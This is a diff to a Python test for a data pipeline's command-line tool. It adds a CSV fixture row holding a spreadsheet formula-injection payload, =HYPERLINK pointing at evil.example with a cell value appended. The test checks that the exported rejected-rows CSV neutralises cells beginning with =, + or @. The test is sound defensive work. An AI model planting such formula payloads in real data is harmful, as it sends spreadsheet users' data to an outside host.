@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import sqlalchemy as sa
@@ -106,16 +107,26 @@ def test_cli_run_history_rejected_and_list(
         "claimant-rate,E10000028,Mar 2023,3.1,,\n"
         "claimant-rate,E10000028,Apr 2023,3.2,,\n"
         "claimant-rate,E10000028,May 2023,300,,\n"
+        '=HYPERLINK("http://evil.example/?x="&B2),E10000028,Jun 2023,3.3,,\n'
     )
     base = ["--config", str(config_copy), "--database-url", db_url]
     code, out = run(*base, "pipelines", "run", "test-returns", "--drop-folder", str(folder.parent))
     assert code == 0, out
-    assert "[1/1] test-returns" in out and "read returns/a.csv: 3 rows" in out
-    assert "1 of 1 run(s) finished, 0 failed; 1 row(s) rejected (see `pmf rejected`)." in out
+    assert "[1/1] test-returns" in out and "read returns/a.csv: 4 rows" in out
+    assert "1 of 1 run(s) finished, 0 failed; 2 row(s) rejected (see `pmf rejected`)." in out
 
     code, out = run(*base, "rejected")
     assert code == 0
     assert "returns/a.csv row 4: value '300' is outside 0 to 100" in out
+
+    # The rejected rows as CSV: a cell a source sent as a formula stays text in a spreadsheet
+    export = tmp_path / "rejected.csv"
+    code, out = run(*base, "rejected", "--csv", str(export))
+    assert code == 0, out
+    with export.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells
+    assert any(c.startswith("'=HYPERLINK") or "=HYPERLINK" in c for c in cells)
 
     code, out = run(*base, "pipelines", "history", "test-returns")
     assert code == 0 and "partially_rejected" in out
